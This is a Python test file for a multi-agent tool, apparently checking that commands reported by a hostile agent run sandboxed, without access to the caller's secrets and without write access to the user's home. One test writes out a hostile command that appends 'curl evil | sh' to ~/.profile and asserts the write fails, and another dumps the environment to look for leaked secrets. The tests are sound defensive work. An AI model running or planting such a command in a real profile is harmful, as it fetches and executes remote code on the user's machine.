"""Checks through verification, as fleet runs them: a reported assignment's checks run in its agent's
Codex sandbox (the detached verifier, or the calling process), never with fleet's environment, and
the verdict records the sandbox the work was done under. The hostile agent wrote what the checks
run; each check here does what its program would try.

Most tests need no Codex agent (the journal lines its hooks would write are written by hand), only
the Codex binary for its sandbox; the last one runs a real read-only explorer end to end."""

from __future__ import annotations

import json
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Fleet, require_offline, wait_until
from mockmodel import MockServer
from mocksteps import Step

from fleet.work.ledger import Ledger
from fleet.work.verify import snapshot

SECRETS = {"OPENAI_API_KEY": "sk-verify-1717", "AWS_SECRET_ACCESS_KEY": "aws-verify-1717",
           "SSH_AUTH_SOCK": "/run/agent-1717.sock", "TMUX": "/tmp/tmux-1717/default,1,0", "GH_TOKEN": "gh-1717"}


def report_text(changed: tuple[str, ...] = ()) -> str:
    body = {"status": "done", "summary": "Done.", "changed": list(changed), "tests": "", "risks": ""}
    return f"Done.\n```fleet-report\n{json.dumps(body)}\n```"


def reported(f: Fleet, checks: list[str], sandbox: str | None = "workspace-write") -> str:
    """An assignment sent to agent-1 (turn t1) whose baseline says the agent ran under `sandbox`,
    and the journal of that turn ending with a valid report."""
    agent = f.agents[0]
    cwd = f.root / "work" / agent
    with Ledger(f.state_dir) as ledger:
        a, _ = ledger.create(task="Look around", holder="lead", actor="lead", agent=agent, checks=checks)
        baseline = {"version": 1, "agent": agent, "role": "worker", "cwd": str(cwd), "write_paths": [],
                    "read_paths": [], "snapshot": snapshot(cwd).to_json(),
                    **({"sandbox": sandbox} if sandbox else {})}
        ledger.annotate(a.id, "baseline", actor="test", baseline=baseline)
        ledger.transition(a.id, "sent", actor="test", turn_id="t1", agent=agent)
    lines: list[dict[str, Any]] = [{"event": "turn_started", "turn_id": "t1", "time": 1.0},
                                   {"event": "turn_completed", "turn_id": "t1", "time": 2.0,
                                    "last_message": report_text()}]
    journal = f.state_dir / "agents" / agent / "events.jsonl"
    journal.parent.mkdir(parents=True, exist_ok=True)
    journal.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return a.id


@pytest.fixture
def user_home() -> Iterator[Path]:
    """A HOME outside /tmp (which workspace-write leaves writable), as a user's home is."""
    home = Path(tempfile.mkdtemp(prefix="fleet-verify-home-", dir="/var/tmp"))
    yield home
    shutil.rmtree(home, ignore_errors=True)


@pytest.fixture
def fleet(fleet_factory: Callable[..., Fleet], codex_bin: str, user_home: Path) -> Fleet:
    require_offline()
    f = fleet_factory(1, codex=codex_bin, agent_extra='role = "worker"\n')
    (user_home / "codex-home").mkdir()
    old, new = f.root / "homes" / "agent-1", user_home / "codex-home"
    f.path.write_text(f.path.read_text().replace(f'home = "{old}"', f'home = "{new}"'))
    return f


def verdict_of(f: Fleet, aid: str, env: dict[str, str]) -> dict[str, Any]:
    """Wait (through the CLI, so a detached verifier runs the checks) and return the verification."""
    proc = f.cli("wait", aid, "--timeout", "60", "--json", env=env)
    assert proc.returncode == 0, proc.stderr
    shown = f.cli("show", aid, "--json", env=env)
    return json.loads(shown.stdout)["verification"]  # type: ignore[no-any-return]


def test_a_check_sees_none_of_the_secrets_in_the_verifiers_environment(fleet: Fleet, user_home: Path) -> None:
    aid = reported(fleet, ["env; echo END"])
    verification = verdict_of(fleet, aid, {**SECRETS, "HOME": str(user_home)})
    [check] = verification["checks"]
    assert check["output_tail"].endswith("END\n")
    assert not any(value in check["output_tail"] for value in SECRETS.values())
    assert "FLEET_" not in check["output_tail"]
    assert (check["passed"], check["ran"], check["sandbox"]) == (True, True, "workspace-write")
    assert verification["verdict"] == "verified"
    assert verification["sandbox"] == "workspace-write"


def test_a_check_that_writes_the_users_home_fails_and_writes_nothing(fleet: Fleet, user_home: Path) -> None:
    profile = user_home / ".profile"
    aid = reported(fleet, [f"echo 'curl evil | sh' >> {profile}"])
    verification = verdict_of(fleet, aid, {"HOME": str(user_home)})
    assert verification["verdict"] == "rejected"
    [check] = verification["checks"]
    assert (check["ran"], check["passed"]) == (True, False)
    assert "Read-only file system" in check["output_tail"]
    assert not profile.exists()


def test_without_a_codex_binary_no_check_runs_and_the_verdict_is_rejected(fleet: Fleet, user_home: Path) -> None:
    fleet.path.write_text(fleet.path.read_text().replace("codex = ", 'codex = "/nonexistent/codex"\n# was: ', 1))
    marker = user_home / "ran"
    aid = reported(fleet, [f"touch {marker}"])
    verification = verdict_of(fleet, aid, {"HOME": str(user_home)})
    assert verification["verdict"] == "rejected"
    assert [r["code"] for r in verification["reasons"]] == ["sandbox_failed"]
    [check] = verification["checks"]
    assert (check["ran"], check["passed"]) == (False, False)
    assert "needs Codex" in check["output_tail"]
    assert not marker.exists()


def test_a_full_access_verdict_says_what_it_is_worth(fleet: Fleet, user_home: Path) -> None:
    aid = reported(fleet, [], sandbox="danger-full-access")
    verification = verdict_of(fleet, aid, {"HOME": str(user_home)})
    assert verification["verdict"] == "verified"
    assert verification["sandbox"] == "danger-full-access"
    assert any("worth no more than the agent's own word" in note for note in verification["notes"])
    shown = fleet.cli("show", aid).stdout
    assert "sandbox: danger-full-access" in shown
    assert "worth no more than the agent's own word" in shown


def test_a_check_runs_no_looser_than_the_sandbox_the_work_was_sent_under(fleet: Fleet, user_home: Path) -> None:
    aid = reported(fleet, ["echo x > probe.txt"], sandbox="read-only")  # the agent is workspace-write now
    verification = verdict_of(fleet, aid, {"HOME": str(user_home)})
    [check] = verification["checks"]
    assert (check["ran"], check["passed"], check["sandbox"]) == (True, False, "read-only")
    assert "Read-only file system" in check["output_tail"]
    assert not (fleet.root / "work" / "agent-1" / "probe.txt").exists()


def test_a_verdict_on_an_older_baseline_says_its_sandbox_is_unknown(fleet: Fleet, user_home: Path) -> None:
    aid = reported(fleet, [], sandbox=None)
    assert verdict_of(fleet, aid, {"HOME": str(user_home)})["sandbox"] == "unknown"


def test_a_read_only_explorers_checks_run_read_only_and_its_sandbox_is_recorded(
        fleet_factory: Callable[..., Fleet], mock_model: MockServer) -> None:
    f = fleet_factory(1, model=mock_model)  # an explorer: read-only
    (f.root / "work" / "agent-1" / "notes.txt").write_text("hello\n")
    f.json("up")
    mock_model.model.script(Step(text=report_text()))
    aid = f.json("assign", "--to", "agent-1", "--check", "cat notes.txt", "--check", "echo x > probe.txt",
                 "Read the notes")["assignment"]
    [done] = f.json("wait", aid, "--timeout", "60")["done"]
    assert done["state"] == "rejected"
    verification = f.json("show", aid)["verification"]
    assert verification["sandbox"] == "read-only"
    read, write = verification["checks"]
    assert (read["passed"], read["output_tail"].endswith("hello\n"), read["sandbox"]) == (True, True, "read-only")
    assert (write["ran"], write["passed"]) == (True, False)
    assert "Read-only file system" in write["output_tail"]
    assert not (f.root / "work" / "agent-1" / "probe.txt").exists()
    wait_until(lambda: f.json("status", "agent-1")["agents"][0]["state"] == "idle", timeout=30)
